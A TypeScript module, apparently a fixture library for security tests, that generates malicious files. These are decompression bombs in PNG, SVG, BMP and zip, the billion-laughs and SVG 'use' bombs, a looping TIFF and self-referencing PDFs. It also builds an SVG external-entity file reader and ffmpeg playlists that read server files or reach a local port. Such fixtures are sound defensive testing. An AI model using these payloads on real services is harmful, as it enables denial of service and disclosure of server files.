/** Files that are made to harm whoever opens them. Each is built here, small, from what its format says. */
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'

/** A PNG of any claimed size, whose one IDAT chunk inflates to `inflated` zeros. */
export function png(width: number, height: number, inflated: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const data = deflateSync(Buffer.alloc(inflated), { level: 9 })
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data])
  return Buffer.concat([number(data.length), body, number(crc32(body))])
}

function number(value: number): Buffer {
  const octets = Buffer.alloc(4)
  octets.writeUInt32BE(value >>> 0)
  return octets
}

/** A GIF whose canvas has the largest sides that its header can hold. */
export function largestGif(): Buffer {
  const screen = Buffer.from('474946383961ffffffff800000000000ffffff', 'hex')
  const frame = Buffer.from('2c00000000ffffffff0002024401003b', 'hex')
  return Buffer.concat([screen, frame])
}

/** A bitmap that claims so many pixels and has none. */
export function bitmapClaim(width: number, height: number): Buffer {
  const octets = Buffer.alloc(58)
  octets.write('BM', 'latin1')
  octets.writeUInt32LE(0x40000000, 2)
  octets.writeUInt32LE(54, 10)
  octets.writeUInt32LE(40, 14)
  octets.writeInt32LE(width, 18)
  octets.writeInt32LE(height, 22)
  octets.writeUInt16LE(1, 26)
  octets.writeUInt16LE(24, 28)
  return octets
}

/** Run-length coding's bomb: a large picture in a few octets. */
export function bitmapRunBomb(side: number): Buffer {
  const octets = bitmapClaim(side, side)
  octets.writeUInt16LE(8, 28)
  octets.writeUInt32LE(1, 30)
  return octets
}

/** A TIFF whose directories point at each other. */
export function tiffLoop(): Buffer {
  const octets = Buffer.alloc(14)
  octets.write('II*\0', 'latin1')
  octets.writeUInt32LE(8, 4)
  octets.writeUInt16LE(0, 8)
  octets.writeUInt32LE(8, 10)
  return octets
}

const svgHead =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'

/** An entity that is ten of another, and so on: the billion laughs. */
export function svgEntityBomb(): Buffer {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
  return Buffer.from(`<!DOCTYPE svg [<!ENTITY e0 "lol">${entities}]>${svgHead}<text y="20">&e9;</text></svg>`)
}

/** Elements that use ten others, and so on. */
export function svgUseBomb(): Buffer {
  const levels = Array.from({ length: 9 }, (_, at) => {
    const uses = `<use xlink:href="#g${at}"/>`.repeat(10)
    return `<g id="g${at + 1}">${uses}</g>`
  })
  const first = '<g id="g0"><rect width="9" height="9"/></g>'
  return Buffer.from(`${svgHead}<defs>${first}${levels.join('')}</defs><use xlink:href="#g9"/></svg>`)
}

/** Draws another file, or what a host sends, in the middle of the picture. */
export function svgWithImage(address: string): Buffer {
  return Buffer.from(`${svgHead}<image width="64" height="64" xlink:href="${address}"/></svg>`)
}

/** Writes another file's text. */
export function svgWithFileEntity(address: string): Buffer {
  return Buffer.from(`<!DOCTYPE svg [<!ENTITY f SYSTEM "${address}">]>${svgHead}<text y="20">&f;</text></svg>`)
}

/** A gzipped SVG, as some renderers unpack it unasked. */
export function svgz(octets: number): Buffer {
  return gzipSync(Buffer.concat([Buffer.from(svgHead), Buffer.alloc(octets, 32), Buffer.from('</svg>')]), { level: 9 })
}

/** A PDF of these objects, numbered from 1; the first is the catalogue. */
export function pdfOf(...objects: readonly string[]): Buffer {
  let text = '%PDF-1.4\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const start = text.length
  const rows = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

/** Page trees that contain themselves, and forms that draw themselves. */
export const pdfLoops: Readonly<Record<string, Buffer>> = {
  'a page tree inside itself': pdfOf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[2 0 R]>>'),
  'a form that draws itself': pdfOf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R>>',
    '<</Length 4>>stream\n/F Do\nendstream',
    '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 4>>stream\n/F Do\nendstream',
  ),
  'a length that is its own stream': pdfOf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>',
    '<</Length 4 0 R>>stream\nq Q\nendstream',
  ),
  'a page as large as a field': pdfOf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>',
  ),
}

/** A zip archive of deflated files, each given as pieces that repeat: a bomb packs well. */
export function zipOf(files: Readonly<Record<string, Buffer>>): Buffer {
  const entries: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const [name, content] of Object.entries(files)) {
    const packed = deflateRawSync(content, { level: 9 })
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(8, 4)
    fields.writeUInt32LE(crc32(content), 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(content.length, 18)
    fields.writeUInt16LE(name.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, Buffer.from(name), packed])
    const more = Buffer.alloc(14)
    more.writeUInt32LE(at, 10)
    const made = Buffer.from([20, 0])
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02', 'latin1'), made, fields, more, Buffer.from(name)]))
    entries.push(local)
    at += local.length
  }
  const all = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(directory.length, 4)
  end.writeUInt16LE(directory.length, 6)
  end.writeUInt32LE(all.length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...entries, all, Buffer.from('PK\x05\x06', 'latin1'), end])
}

/** A word processor's document whose body is this. */
export function docx(body: Buffer): Buffer {
  const types = 'http://schemas.openxmlformats.org/package/2006'
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument'
  const words = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  return zipOf({
    '[Content_Types].xml': Buffer.from(
      `<Types xmlns="${types}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    ),
    '_rels/.rels': Buffer.from(
      `<Relationships xmlns="${types}/relationships"><Relationship Id="r1" Type="${office}" Target="word/document.xml"/></Relationships>`,
    ),
    'word/document.xml': Buffer.concat([
      Buffer.from(`<w:document xmlns:w="${words}"><w:body><w:p><w:r><w:t>`),
      body,
      Buffer.from('</w:t></w:r></w:p></w:body></w:document>'),
    ]),
  })
}

/** Playlists, which ffmpeg takes for films: they name a file of the server's, or another host. */
export function playlists(file: string, port: number): Readonly<Record<string, string>> {
  const hls = (address: string) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n${address}\n#EXT-X-ENDLIST\n`
  return {
    'HLS with a file': hls(`file://${file}`),
    'HLS with a host': hls(`http://127.0.0.1:${port}/`),
    'HLS with concat': hls(`concat:http://127.0.0.1:${port}/|file://${file}`),
    'ffconcat with a file': `ffconcat version 1.0\nfile '${file}'\n`,
    'ffconcat with a host': `ffconcat version 1.0\nfile 'http://127.0.0.1:${port}/'\n`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${port} RTP/AVP 0\n`,
    'DASH with a host': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet><Representation id="1" mimeType="video/mp4"><BaseURL>http://127.0.0.1:${port}/</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  }
}
